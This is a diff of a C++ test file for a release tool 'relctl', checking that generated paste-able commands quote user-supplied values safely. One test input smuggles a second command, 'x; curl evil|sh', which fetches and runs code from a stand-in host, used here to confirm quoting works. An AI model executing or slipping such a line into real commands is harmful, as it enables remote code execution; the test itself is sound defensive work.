@@ -119,7 +119,7 @@ TEST_CASE("a command to paste takes what a step reported, and what a shell reads
   CHECK(command(Cause::item, "x; curl evil|sh") ==
         "relctl item close 'x; curl evil|sh' --reason WHY");
   CHECK(command(Cause::incident, "it's 3") == "relctl incident close 'it'\\''s 3'");
-  CHECK(command(Cause::exposure, "shift[a]") == "relctl advance");
+  CHECK(command(Cause::exposure, "shift[a]") == "relctl advance --wait"); // It never ran.
   const core::StepAddress address{"main", "p5", "enter", "deploy[n1]"};
   given.event(core::StepStarted{address, 1, core::Part::act, "k", "", seconds(10)});
   given.event(failed(address));
